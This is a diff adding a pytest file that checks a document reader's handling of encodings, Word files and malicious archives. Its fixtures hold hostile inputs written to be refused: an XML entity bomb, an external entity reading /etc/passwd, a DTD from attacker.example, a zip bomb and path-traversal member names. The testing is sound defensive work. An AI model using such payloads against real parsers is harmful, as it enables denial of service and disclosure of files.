@@ -1,0 +1,183 @@
+"""Documents as they come: encodings, Word files, and files that mean harm."""
+
+from __future__ import annotations
+
+import io
+import struct
+import time
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from hengfa.errors import DataError
+from hengfa.library import docx as docx_module
+from hengfa.library.documents import read_document
+from hengfa.library.docx import read_docx
+from tests.library.citing_support import WORD, archive, body, docx
+
+TEXT = "依照《云港海岸法》第四条。"
+
+
+@pytest.mark.parametrize(
+    ("encoding", "remark"),
+    [("utf-8", ""), ("utf-8-sig", ""), ("gb18030", "GB18030"), ("utf-16", "UTF-16")],
+)
+def test_encodings_of_chinese_texts(tmp_path: Path, encoding: str, remark: str) -> None:
+    file = tmp_path / "draft.txt"
+    file.write_bytes(f"{TEXT}\r\n第二行\r末行".encode(encoding))
+    found = read_document(file)
+    assert found.text == f"{TEXT}\n第二行\n末行"
+    assert remark in " ".join(found.notes)
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "what"),
+    [
+        ("a.pdf", b"%PDF-1.7", "not a text"),
+        ("a.doc", b"\xd0\xcf\x11\xe0", "save it as .docx"),
+        ("a.xlsx", b"data", "not a text"),
+        ("a.txt", "第1条".encode("utf-16-le"), "UTF-16"),
+        ("a.txt", b"text\x00text", "not a text"),
+        ("a.docx", b"no archive", "Word document"),
+        ("a.txt", archive({"x": "y"}), "no body"),
+    ],
+)
+def test_what_is_no_document_says_what_to_do(
+    tmp_path: Path, name: str, content: bytes, what: str
+) -> None:
+    (tmp_path / name).write_bytes(content)
+    with pytest.raises(DataError, match=what) as error:
+        read_document(tmp_path / name)
+    assert name in str(error.value)
+
+
+def test_a_missing_file_and_a_large_one(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    with pytest.raises(DataError, match="No such file"):
+        read_document(tmp_path / "absent.txt")
+    monkeypatch.setattr("hengfa.library.documents.LARGEST", 10)
+    (tmp_path / "large.txt").write_bytes(b"x" * 11)
+    with pytest.raises(DataError, match="split it"):
+        read_document(tmp_path / "large.txt")
+
+
+# --- Word ---
+
+
+def test_a_word_document_is_read_in_order(tmp_path: Path) -> None:
+    table = (
+        "<w:tbl><w:tr><w:tc><w:p><w:r><w:t>表一</w:t></w:r></w:p></w:tc>"
+        "<w:tc><w:p><w:r><w:t>表二</w:t></w:r></w:p></w:tc></w:tr></w:tbl>"
+    )
+    noted = '<w:p><w:r><w:t>正文</w:t></w:r><w:r><w:footnoteReference w:id="2"/></w:r></w:p>'
+    notes = (
+        f'<w:footnotes xmlns:w="{WORD}"><w:footnote w:type="separator" w:id="0"><w:p/></w:footnote>'
+        '<w:footnote w:id="2"><w:p><w:r><w:t>脚注</w:t></w:r></w:p></w:footnote></w:footnotes>'
+    )
+    file = tmp_path / "a.docx"
+    file.write_bytes(docx("首段", table, noted, "末段", footnotes=notes))
+    assert read_document(file).text.split("\n") == ["首段", "表一", "表二", "正文", "脚注", "末段"]
+
+
+def test_endnotes_tabs_breaks_and_tracked_changes() -> None:
+    paragraph = (
+        "<w:p><w:pPr><w:rPr><w:t>样式</w:t></w:rPr></w:pPr>"
+        "<w:r><w:t>第</w:t><w:t>四</w:t></w:r><w:del><w:r><w:delText>五</w:delText></w:r></w:del>"
+        "<w:ins><w:r><w:t>条</w:t></w:r></w:ins><w:r><w:tab/><w:t>甲</w:t><w:br/><w:t>乙</w:t></w:r>"
+        "<w:r><w:instrText>PAGE</w:instrText></w:r>"
+        '<w:r><w:endnoteReference w:id="1"/></w:r></w:p>'
+    )
+    notes = (
+        f'<w:endnotes xmlns:w="{WORD}"><w:endnote w:id="1"><w:p><w:r><w:t>尾注</w:t></w:r></w:p>'
+        "</w:endnote></w:endnotes>"
+    )
+    assert read_docx(docx(paragraph, endnotes=notes), "a.docx") == "第四条\t甲\n乙\n尾注"
+
+
+def test_text_boxes_are_read_once() -> None:
+    compatible = "http://schemas.openxmlformats.org/markup-compatibility/2006"
+    box = "<w:txbxContent><w:p><w:r><w:t>框</w:t></w:r></w:p></w:txbxContent>"
+    paragraph = (
+        f'<w:p><w:r><mc:AlternateContent xmlns:mc="{compatible}"><mc:Choice>{box}</mc:Choice>'
+        f"<mc:Fallback>{box}</mc:Fallback></mc:AlternateContent><w:t>外</w:t></w:r></w:p>"
+    )
+    assert read_docx(docx(paragraph), "a.docx").split("\n") == ["框", "外"]
+
+
+def test_the_body_may_lie_elsewhere_and_be_strict() -> None:
+    relations = (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        '<Relationship Id="r" Target="/word/document2.xml" Type="http://purl.oclc.org/ooxml/'
+        'officeDocument/relationships/officeDocument"/></Relationships>'
+    )
+    strict = body("严格").replace(WORD, "http://purl.oclc.org/ooxml/wordprocessingml/main")
+    content = archive({"_rels/.rels": relations, "word/document2.xml": strict})
+    assert read_docx(content, "a.docx") == "严格"
+
+
+def refused(content: bytes, why: str) -> None:
+    with pytest.raises(DataError, match=why) as error:
+        read_docx(content, "evil.docx")
+    assert "evil.docx" in str(error.value)
+
+
+def test_entities_are_refused_before_anything_is_expanded() -> None:
+    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
+    bomb = f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]>' + body("&l11;")
+    started = time.monotonic()
+    refused(archive({"word/document.xml": bomb}), "declares entities")
+    outside = '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + body("&x;")
+    refused(archive({"word/document.xml": outside}), "declares entities")
+    dtd = '<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">' + body("文")
+    refused(archive({"word/document.xml": dtd}), "declares entities")
+    assert time.monotonic() - started < 2
+
+
+def test_a_part_is_read_up_to_a_limit_whatever_the_archive_says(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setattr(docx_module, "LARGEST_PART", 1024 * 1024)
+    bomb = archive({"word/document.xml": body("零" * 2_000_000)})
+    assert len(bomb) < 100_000
+    refused(bomb, "larger than 1 MB")
+    # a member that lies about its size
+    lying = bytearray(bomb)
+    at = lying.rindex(b"PK\x01\x02")
+    lying[at + 24 : at + 28] = struct.pack("<I", 10)
+    with pytest.raises(DataError):
+        read_docx(bytes(lying), "evil.docx")
+
+
+@pytest.mark.parametrize(
+    "name", ["../outside.xml", "/etc/passwd", "C:\\evil.xml", "word/../../evil.xml", "a\\..\\b"]
+)
+def test_members_that_lead_outside_are_refused(name: str) -> None:
+    refused(archive({"word/document.xml": body("文"), name: "x"}), "leads outside")
+
+
+@pytest.mark.filterwarnings("ignore:Duplicate name")
+def test_two_bodies_many_members_passwords_and_depth(monkeypatch: pytest.MonkeyPatch) -> None:
+    stream = io.BytesIO()
+    with zipfile.ZipFile(stream, "w") as opened:
+        opened.writestr("word/document.xml", body("一"))
+        opened.writestr("word/document.xml", body("二"))
+    refused(stream.getvalue(), "two members of one name")
+    locked = bytearray(docx("文"))
+    locked[locked.rindex(b"PK\x01\x02") + 8] |= 1
+    refused(bytes(locked), "password")
+    refused(docx("<w:p>" * 500 + "</w:p>" * 500), "nested deeper")
+    refused(docx("<w:p>"), "not well-formed")
+    refused(docx("文")[:-40], "Word document")
+    monkeypatch.setattr(docx_module, "MOST_MEMBERS", 1)
+    refused(archive({"word/document.xml": body("文"), "b": "x"}), "2 members")
+
+
+def test_damaged_bytes_never_escape_as_another_error() -> None:
+    whole = docx("段落" * 50)
+    for place in range(0, len(whole), 7):
+        damaged = bytearray(whole)
+        damaged[place] ^= 0xFF
+        try:
+            read_docx(bytes(damaged), "a.docx")
+        except DataError:
+            continue
